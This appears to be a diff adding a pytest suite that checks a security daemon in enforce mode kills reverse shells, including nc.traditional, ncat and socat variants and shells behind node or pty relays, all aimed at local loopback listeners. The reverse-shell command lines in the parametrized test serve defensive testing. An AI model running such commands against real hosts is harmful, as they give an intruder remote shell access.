@@ -1,0 +1,92 @@
+"""Enforce mode against reverse shells, end to end as root: the kill
+follows the offender's identity (pid, start time) across its own exec
+(``nc.traditional -e /bin/sh`` becomes sh under the same pid), shells
+behind a relay are stopped, and the attribution env keys survive a
+process killed within milliseconds of its exec."""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import shutil
+import signal
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import require_root
+from tests.fixtures.daemon import Daemon, by_pid, daemon
+from tests.fixtures.network import listener, wait_until
+from tests.test_stdio_relay import RULE as RELAY_RULE
+from tests.test_stdio_relay import _node, _pty_fork, in_tree
+
+NC_TRADITIONAL = shutil.which("nc.traditional") or "/bin/nc.traditional"
+
+
+@pytest.fixture(scope="module")
+def enforcing():
+    require_root()
+    config = "rules: []\nattribution:\n  env_keys: [RG_ROLLOUT_ID]\n"
+    with daemon(mode="enforce", config_text=config) as d:
+        yield d
+
+
+def responses(d: Daemon, pid: int) -> list[dict]:
+    return d.alerts_for(lambda r: r.get("event") == "response" and pid in r["response"]["pids"])
+
+
+def _wait_killed(proc: subprocess.Popen, timeout: float = 20) -> int:
+    try:
+        return proc.wait(timeout)
+    finally:
+        with contextlib.suppress(ProcessLookupError):
+            os.killpg(proc.pid, signal.SIGKILL)
+        proc.wait()
+
+
+@pytest.mark.parametrize(
+    ("argv", "host"),
+    [
+        ([NC_TRADITIONAL, "-e", "/bin/sh", "{host}", "{port}"], "127.0.33.1"),
+        (["ncat", "--sh-exec", "sh -i", "{host}", "{port}"], "127.0.33.2"),
+        (["socat", "TCP:{host}:{port}", "EXEC:sh"], "127.0.33.3"),
+    ],
+    ids=["nc.traditional-e", "ncat-sh-exec", "socat-exec"],
+)
+def test_netcat_family_shells_are_killed(enforcing: Daemon, argv: list[str], host: str) -> None:
+    if argv[0] == NC_TRADITIONAL and not os.path.exists(NC_TRADITIONAL):
+        pytest.fail("netcat-traditional is not installed (scripts/setup-host.sh installs it)")
+    with listener(host, 0) as attacker:
+        command = [a.format(host=host, port=attacker.port) for a in argv]
+        proc = subprocess.Popen(command, stdin=subprocess.DEVNULL, start_new_session=True)
+        status = _wait_killed(proc)
+    assert status == -signal.SIGKILL
+    # our own daemon killed it (a foreign daemon on the host may also try)
+    killed = wait_until(
+        lambda: [r for r in responses(enforcing, proc.pid) if r["action"] == "killed"]
+    )
+    alert = next(r for r in enforcing.alerts_for(by_pid(proc.pid)) if r["event"] == "alert")
+    assert alert["category"] == "reverse_shell"
+    assert killed[0]["alert_id"] == alert["id"]
+
+
+@pytest.mark.parametrize("spawn", [_node, _pty_fork], ids=["node-child_process", "python-pty.fork"])
+def test_shell_behind_a_relay_is_stopped(enforcing: Daemon, tmp_path: Path, spawn) -> None:
+    with listener("127.0.33.10", 0) as attacker:
+        proc = spawn(tmp_path, attacker)
+        try:
+            alert = enforcing.wait_alert(in_tree(proc.pid), timeout=20)
+            shell = alert["process"]["pid"]
+            killed = wait_until(
+                lambda: [r for r in responses(enforcing, shell) if r["action"] == "killed"],
+                timeout=20,
+            )
+        finally:
+            with contextlib.suppress(ProcessLookupError):
+                os.killpg(proc.pid, signal.SIGKILL)
+            proc.wait()
+    assert RELAY_RULE in {hit["rule"] for hit in alert["rules"]}
+    assert killed[0]["alert_id"] == alert["id"]
+    with contextlib.suppress(FileNotFoundError), open(f"/proc/{shell}/stat") as f:
+        assert f.read().split()[2] in ("Z", "X")
